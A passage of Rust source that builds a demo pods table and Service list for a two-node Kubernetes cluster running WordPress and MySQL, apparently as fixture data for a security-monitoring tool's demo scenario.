    let mut b_uids = uids(&[&wp_b.place]);
    b_uids.push(kp_uid("kube-proxy-kzb5w"));
    host(&mut g, &a, &a_uids, 0);
    host(&mut g, &b, &b_uids, 4 * NS);

    ssh_session(
        &mut g,
        &a,
        at(9, 31, 12, 0),
        &[
            "crictl ps",
            "crictl pods --namespace wordpress-mysql",
            "crictl logs --tail 50 mysql",
        ],
    );
    ssh_session(&mut g, &b, at(11, 5, 40, 0), &["crictl stats"]);
    exec_session(&mut g, &a, &wp_a, at(10, 17, 42, 0));

    attack(&mut g, &a, &wp_b, &my);
    g.finish()
}

// ---------------------------------------------------------------------------------------------
// The pods table
// ---------------------------------------------------------------------------------------------

/// 2026-11-19T09:00:00Z: when the cluster's system pods started, the day before the demo.
const SYSTEM_START_NS: i64 = START_NS - 23 * HOUR;

/// A pod of the demo's pods table: namespace, pod, node, owner kind and name, labels, host
/// network, address, and the span it held the address (`None`: still at the demo's end).
type DemoPod = (
    &'static str,
    &'static str,
    &'static str,
    &'static str,
    &'static str,
    &'static [&'static str],
    bool,
    &'static str,
    i64,
    Option<i64>,
);

/// The pods table of the demo (design §3): every pod the nodes' pod watches saw, with the
/// addresses they held. Besides the pods that appear in the events, it holds those that are
/// only peers: the CoreDNS pods behind the `kube-dns` Service (labelled `k8s-app=kube-dns`, as
/// kubeadm's CoreDNS is), the ingress controller that sends WordPress its traffic, and a
/// finished backup Job whose address (10.244.2.31) the second WordPress pod got later. The
/// kube-proxy pods run in the host's network: their address is their node's.
pub const PODS: &[DemoPod] = &[
    (
        NAMESPACE,
        "mysql-6f4d9b8c7-2hjtn",
        "node-a",
        "Deployment",
        "mysql",
        &["app=mysql", "pod-template-hash=6f4d9b8c7", "tier=backend"],
        false,
        "10.244.1.17",
        at(8, 0, 0, 900),
        None,
    ),
    (
        NAMESPACE,
        "wordpress-7c9f6d8b5d-4xk2p",
        "node-a",
        "Deployment",
        "wordpress",
        &[
            "app=wordpress",
            "pod-template-hash=7c9f6d8b5d",
            "tier=frontend",
        ],
        false,
        "10.244.1.23",
        at(8, 0, 2, 100),
        None,
    ),
    (
        NAMESPACE,
        "wordpress-7c9f6d8b5d-m8q7z",
        "node-b",
        "Deployment",
        "wordpress",
        &[
            "app=wordpress",
            "pod-template-hash=7c9f6d8b5d",
            "tier=frontend",
        ],
        false,
        "10.244.2.31",
        at(8, 0, 2, 700),
        None,
    ),
    (
        NAMESPACE,
        "wp-backup-29381040-q2x7c",
        "node-b",
        "CronJob",
        "wp-backup",
        &[
            "batch.kubernetes.io/controller-uid=0b4f4c9e-5e0a-4f0e-9a53-2d3c1f6a7b11",
            "batch.kubernetes.io/job-name=wp-backup-29381040",
            "controller-uid=0b4f4c9e-5e0a-4f0e-9a53-2d3c1f6a7b11",
            "job-name=wp-backup-29381040",
        ],
        false,
        "10.244.2.31",
        at(7, 0, 0, 0),
        Some(at(7, 4, 31, 0)),
    ),
    (
        "kube-system",
        "coredns-5d78c9869d-8r6tw",
        "node-a",
        "Deployment",
        "coredns",
        &["k8s-app=kube-dns", "pod-template-hash=5d78c9869d"],
        false,
        "10.244.1.2",
        SYSTEM_START_NS,
        None,
    ),
    (
        "kube-system",
        "coredns-5d78c9869d-vz5kq",
        "node-b",
        "Deployment",
        "coredns",
        &["k8s-app=kube-dns", "pod-template-hash=5d78c9869d"],
        false,
        "10.244.2.3",
        SYSTEM_START_NS,
        None,
    ),
    (
        "kube-system",
        "kube-proxy-7xq9d",
        "node-a",
        "DaemonSet",
        "kube-proxy",
        &[
            "controller-revision-hash=6d4b7c9f8",
            "k8s-app=kube-proxy",
            "pod-template-generation=1",
        ],
        true,
        "10.0.0.11",
        SYSTEM_START_NS,
        None,
    ),
    (
        "kube-system",
        "kube-proxy-kzb5w",
        "node-b",
        "DaemonSet",
        "kube-proxy",
        &[
            "controller-revision-hash=6d4b7c9f8",
            "k8s-app=kube-proxy",
            "pod-template-generation=1",
        ],
        true,
        "10.0.0.12",
        SYSTEM_START_NS,
        None,
    ),
    (
        "ingress-nginx",
        "ingress-nginx-controller-6b9c7d5f4-h7k2m",
        "node-a",
        "Deployment",
        "ingress-nginx-controller",
        &[
            "app.kubernetes.io/component=controller",
            "app.kubernetes.io/instance=ingress-nginx",
            "app.kubernetes.io/name=ingress-nginx",
            "pod-template-hash=6b9c7d5f4",
        ],
        false,
        "10.244.1.9",
        SYSTEM_START_NS,
        None,
    ),
    (
        "ingress-nginx",
        "ingress-nginx-controller-6b9c7d5f4-x4w9n",
        "node-b",
        "Deployment",
        "ingress-nginx-controller",
        &[
            "app.kubernetes.io/component=controller",
            "app.kubernetes.io/instance=ingress-nginx",
            "app.kubernetes.io/name=ingress-nginx",
            "pod-template-hash=6b9c7d5f4",
        ],
        false,
        "10.244.2.12",
        SYSTEM_START_NS,
        None,
    ),
];

/// A Service of the demo: namespace, name, cluster IP, selector, ports.
type DemoService = (
    &'static str,
    &'static str,
    &'static str,
    &'static [&'static str],
    &'static [&'static str],
);

/// The cluster's Services with a cluster IP, as every node's collector records them (pods
/// schema 1.1, rows of kind `Service`): namespace, name, cluster IP, selector, ports
/// (`PROTO/PORT->TARGET`). The workloads reach DNS and MySQL through these addresses, so the
/// drafts show the Services' pods found by their real selectors.
const SERVICES: &[DemoService] = &[
    (
        "kube-system",
        "kube-dns",
        DNS_ADDR,
        &["k8s-app=kube-dns"],
        &["TCP/53->53", "TCP/9153->9153", "UDP/53->53"],
    ),
    (
        "wordpress-mysql",
        "mysql",
        MYSQL_SVC_ADDR,
        &["app=mysql"],
        &["TCP/3306->3306"],
    ),
];

/// The demo's pods table as contract rows, in [`PODS`] order, then each node's copy of the
/// [`SERVICES`] rows.
pub fn pods() -> Vec<karmor_contract::pods::PodAddress> {
    let mut nodes: Vec<&str> = PODS.iter().map(|p| p.2).collect();
    nodes.sort_unstable();
    nodes.dedup();
    let services = nodes.into_iter().flat_map(|node| {
        SERVICES
            .iter()
            .map(
                move |&(namespace, name, ip, selector, ports)| karmor_contract::pods::PodAddress {
                    cluster: s(CLUSTER),
                    node: node.into(),
                    namespace: namespace.into(),
                    pod: name.into(),
                    pod_uid: Some(uuid_for(&format!("service/{namespace}/{name}"))),
                    workload_kind: s(karmor_contract::pods::KIND_SERVICE),
                    workload: s(name),
                    labels: selector.iter().map(|l| l.to_string()).collect(),
                    host_network: false,
                    ip: ip.into(),
                    valid_from: SYSTEM_START_NS,
                    valid_to: None,
                    kind: s(karmor_contract::pods::KIND_SERVICE),
                    ports: ports.iter().map(|p| p.to_string()).collect(),
                },
            )
    });
    let pods = PODS.iter().map(
        |&(namespace, pod, node, kind, workload, labels, host_network, ip, from, to)| {
            karmor_contract::pods::PodAddress {
                cluster: s(CLUSTER),
                node: node.into(),
                namespace: namespace.into(),
                pod: pod.into(),
                pod_uid: Some(uuid_for(&format!("{namespace}/{pod}"))),
                workload_kind: s(kind),
                workload: s(workload),
                labels: labels.iter().map(|l| l.to_string()).collect(),
                host_network,
                ip: ip.into(),
                valid_from: from,
                valid_to: to,
                kind: None,
                ports: Vec::new(),
            }
        },
    );
    pods.chain(services).collect()
}
